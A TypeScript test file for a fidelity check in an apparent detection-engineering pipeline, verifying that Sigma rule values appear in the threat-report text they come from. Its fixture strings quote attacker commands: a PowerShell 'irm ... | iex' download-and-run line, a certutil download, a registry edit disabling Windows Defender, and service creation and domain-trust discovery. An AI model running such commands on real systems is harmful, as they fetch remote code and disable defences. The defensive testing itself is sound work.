import type { ExtractionResult } from '@huntforge/contracts';
import { detectionValues } from './domain-ports';
import { fidelityCheck } from './sigma-stages';
import type { PipelineArticle } from './ports';

const article = (content: string): PipelineArticle => ({ id: 1, title: 'Intrusion', url: 'https://blog.example.org/a', content, huntScore: 5, publishedAt: null });
// Only the observables are read; the rest of the result does not bear on fidelity.
const noObservables = { observables: [] } as unknown as ExtractionResult;

describe('fidelityCheck', () => {
  it('accepts values the article states, and the .exe of a program the article runs by its bare name', () => {
    const text = 'The actor ran sc \\\\FS02 create WinSvcHost and then nltest /domain_trusts.';
    expect(fidelityCheck(['\\sc.exe', '\\nltest.exe', 'WinSvcHost', '/domain_trusts'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
  });

  it('accepts both PowerShell hosts for a rule on PowerShell code the article shows', () => {
    expect(fidelityCheck(['\\powershell.exe', '\\pwsh.exe', 'irm '], article("The lure has the user paste irm 'https://203.0.113.7/a' | iex."), noObservables).ok).toBe(true);
    expect(fidelityCheck(['\\pwsh.exe'], article('The actor ran cmd.exe /c whoami.'), noObservables).ok).toBe(false);
  });

  it('accepts the Details Sysmon records for a number the article writes, and flags one it never states', () => {
    const text = 'The actor disabled the service: reg add HKLM\\SYSTEM\\CurrentControlSet\\Services\\WinDefend /v Start /t REG_DWORD /d 4 /f';
    expect(fidelityCheck(['\\Services\\WinDefend', '\\Start', 'DWORD (0x00000004)'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
    expect(fidelityCheck(['DWORD (0x00000004)'], article('Start was set to 0x4 on every host.'), noObservables).ok).toBe(true);
    expect(fidelityCheck(['QWORD (0x00000001-0x00000000)'], article('The value became 4294967296.'), noObservables).ok).toBe(true);
    expect(fidelityCheck(['DWORD (0x00000002)'], article(text), noObservables)).toEqual({ ok: false, unsupported_values: ['DWORD (0x00000002)'] });
    // Part of a version or a longer number is not the number.
    expect(fidelityCheck(['DWORD (0x00000004)'], article('Version 4.2 shipped with 14 fixes.'), noObservables).ok).toBe(false);
  });

  it('flags a value the article does not state, and a program name found only inside another word', () => {
    const text = 'The actor ran describe.ps1 from a scheduled task.';
    expect(fidelityCheck(['\\sc.exe', '\\mimikatz.exe', 'describe.ps1'], article(text), noObservables)).toEqual({ ok: false, unsupported_values: ['\\sc.exe', '\\mimikatz.exe'] });
  });
});

describe('fidelityCheck on defanged articles', () => {
  it('accepts the refanged form of a defanged value and the single-% form of a batch variable', () => {
    const text = 'certutil -urlcache -f hxxp://203.0.113[.]5/a.txt %%APPDATA%%\\a.txt';
    expect(fidelityCheck(['http://', '%APPDATA%\\a.txt', '203.0.113.5'], article(text), noObservables)).toEqual({ ok: true, unsupported_values: [] });
  });
});

describe('detection values the fidelity check reads', () => {
  it('leaves out blocks the condition only negates: a filter states no observation', () => {
    const yaml = [
      'detection:',
      '  selection:',
      "    TargetObject|endswith: '\\Run\\QuillSetup'",
      '  filter_genuine:',
      "    Details|contains: '\\QuillSetup.exe'",
      '  condition: selection and not filter_genuine',
    ].join('\n');
    expect(detectionValues(yaml)).toEqual(['\\Run\\QuillSetup']);
    // A block the condition also uses positively is read.
    expect(detectionValues(yaml.replace('selection and not filter_genuine', 'selection or filter_genuine'))).toEqual(['\\Run\\QuillSetup', '\\QuillSetup.exe']);
  });
});
